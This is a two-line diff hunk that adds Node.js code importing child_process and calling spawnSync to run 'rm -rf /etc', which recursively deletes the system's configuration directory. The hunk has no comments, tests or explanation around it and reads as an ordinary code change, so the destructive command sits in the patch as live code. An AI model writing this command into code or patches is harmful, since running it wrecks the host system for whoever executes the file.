@@ -1,0 +1,2 @@
+const cp = require('node:child_process');
+cp.spawnSync('rm', ['-rf', '/etc']);
